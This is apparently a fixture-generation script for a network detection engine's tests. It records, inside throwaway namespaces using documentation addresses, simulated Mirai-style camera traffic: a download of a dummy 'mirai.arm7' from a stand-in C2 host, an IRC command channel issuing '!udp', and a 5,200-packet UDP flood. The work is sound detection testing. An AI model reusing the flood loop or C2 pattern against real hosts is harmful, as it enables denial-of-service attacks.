#!/usr/bin/env bash
# Records vigil-engine/src/test/resources/captures/vigil-netns-botnet.pcap: real traffic between
# network namespaces this script creates (and removes) that replays what an infected IoT camera
# does, with documentation addresses only and nothing leaving the namespaces:
#
#   camera 192.168.77.10 (ns vg-cam) -- router (ns vg-rtr) -- 203.0.113.50 "C2 and download server" (ns vg-c2)
#                                                           -- 198.51.100.7 "flood victim" (ns vg-vic)
#   1. downloads /bins/mirai.arm7 over HTTP from the server (python3 http.server)
#   2. joins an IRC channel on the server (NICK/USER/JOIN, the server answers 001 and relays a command)
#   3. floods the victim with 5,200 small UDP datagrams to random ports
# The capture is taken on the camera's LAN link. Needs root, iproute2, tcpdump, python3.
set -euo pipefail
OUT=${1:-$(cd "$(dirname "$0")/.." && pwd)/vigil-engine/src/test/resources/captures/vigil-netns-botnet.pcap}
W=$(mktemp -d)
NS="vg-cam vg-rtr vg-c2 vg-vic"
cleanup() {
  kill $(jobs -p) 2>/dev/null || true
  for n in $NS; do ip netns pids $n 2>/dev/null | xargs -r kill 2>/dev/null || true; done
  for n in $NS; do ip netns del $n 2>/dev/null || true; done
  rm -rf "$W"
}
trap cleanup EXIT
for n in $NS; do ip netns add $n; ip -n $n link set lo up; done
link() { # nsA ifA addrA macA nsB ifB addrB
  ip link add "$2" netns "$1" type veth peer name "$6" netns "$5"
  ip -n "$1" link set "$2" address "$4"
  ip -n "$1" addr add "$3" dev "$2"; ip -n "$5" addr add "$7" dev "$6"
  ip -n "$1" link set "$2" up; ip -n "$5" link set "$6" up
}
link vg-cam cam0 192.168.77.10/24 02:00:5e:77:00:10 vg-rtr rlan 192.168.77.1/24
link vg-c2 c20 203.0.113.50/24 02:00:5e:00:00:50 vg-rtr rc2 203.0.113.1/24
link vg-vic vic0 198.51.100.7/24 02:00:5e:00:00:07 vg-rtr rvic 198.51.100.1/24
ip -n vg-rtr link set rlan address 02:00:5e:77:00:01
ip netns exec vg-rtr sysctl -qw net.ipv4.ip_forward=1
ip -n vg-cam route add default via 192.168.77.1
ip -n vg-c2 route add default via 203.0.113.1
ip -n vg-vic route add default via 198.51.100.1
mkdir -p "$W/www/bins"; head -c 60000 /dev/urandom > "$W/www/bins/mirai.arm7"
cat > "$W/irc.py" <<'PY'
import socket
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("203.0.113.50", 6667)); s.listen(1)
c, _ = s.accept(); buf = b""
while b"JOIN" not in buf:
    d = c.recv(4096)
    if not d: break
    buf += d
    if b"USER" in buf and b"001" not in buf:
        c.sendall(b":cnc.example 001 cam :Welcome to the network\r\n"); buf += b"001"
c.sendall(b":boss!boss@cnc.example PRIVMSG #cams :!udp 198.51.100.7 0 2\r\n")
c.recv(4096); c.close()
PY
cat > "$W/bot.py" <<'PY'
import random, socket, time
c = socket.create_connection(("203.0.113.50", 6667))
c.sendall(b"NICK cam\r\nUSER cam 0 * :camera\r\n"); c.recv(4096)
c.sendall(b"JOIN #cams\r\n"); c.recv(4096); c.sendall(b"PONG :cnc.example\r\n"); c.close()
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
rnd = random.Random(7); payload = bytes(32)
for i in range(5200):
    u.sendto(payload, ("198.51.100.7", rnd.randrange(1024, 65535)))
    if i % 500 == 499: time.sleep(0.2)
PY
ip netns exec vg-cam tcpdump -i cam0 -U -w "$W/lan.pcap" 2>/dev/null &
TCPDUMP=$!
sleep 1
ip netns exec vg-c2 python3 -m http.server 80 --bind 203.0.113.50 --directory "$W/www" >/dev/null 2>&1 &
ip netns exec vg-c2 python3 "$W/irc.py" &
sleep 1
ip netns exec vg-cam python3 -c "import urllib.request; urllib.request.urlopen('http://203.0.113.50/bins/mirai.arm7').read()"
ip netns exec vg-cam python3 "$W/bot.py"
sleep 1
kill $TCPDUMP; wait $TCPDUMP 2>/dev/null || true
cp "$W/lan.pcap" "$OUT"
echo "wrote $OUT ($(tcpdump -r "$OUT" 2>/dev/null | wc -l) packets)"
